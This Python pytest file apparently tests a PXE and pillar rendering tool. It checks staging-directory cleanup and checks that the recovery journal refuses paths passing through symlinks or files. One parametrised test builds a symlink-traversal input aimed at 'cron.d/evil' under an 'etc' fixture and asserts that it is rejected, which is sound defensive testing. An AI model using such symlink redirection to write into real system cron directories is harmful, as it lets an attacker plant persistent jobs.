def test_leftovers_are_removed_without_git_and_outside_a_work_tree(
        out: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Where git is missing, or the output is in no work tree, nothing is tracked."""
    (out / ".pxe.render-1").mkdir()
    assert fleet(capsys, "render", "-q", "-i", str(SMALL), "-o", str(out)).returncode == 0
    assert leftovers(out) == []
    (out / ".pxe.render-1").mkdir()
    monkeypatch.setenv("PATH", str(tmp_path / "no-git-here"))
    assert fleet(capsys, "render", "-q", "-i", str(SMALL), "-o", str(out)).returncode == 0
    assert leftovers(out) == []


@pytest.mark.parametrize("what", ["link", "file"])
def test_recovery_refuses_a_link_or_a_file_on_the_way(tmp_path: Path, etc: Path,
                                                      what: str) -> None:
    """Each rename's paths are checked component by component just before it runs (the
    scan before recovery already refuses links; this holds if one appears after it)."""
    root = tmp_path / "out"
    (root / "pxe").mkdir(parents=True)
    if what == "link":
        (root / "pxe" / "lnk").symlink_to(etc)
    else:
        (root / "pxe" / "lnk").write_text("a file\n")
    with pytest.raises(tree.UnsafeOutputError) as info:
        journal._plain_path(root, os.fspath(root / "pxe" / "lnk" / "cron.d" / "evil"))
    assert info.value.filename == os.fspath(root / "pxe" / "lnk")
    journal._plain_path(root, os.fspath(root / "pxe" / "new"))  # a plain path is fine


def test_a_file_where_pillar_goes_leaves_no_staging(
        out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.rmtree(out / "pillar")
    (out / "pillar").write_text("not a directory\n")
    render(capsys, out)
    assert read_tree(out) == read_tree(ROOT / "tests" / "golden" / "small")
    assert leftovers(out) == []
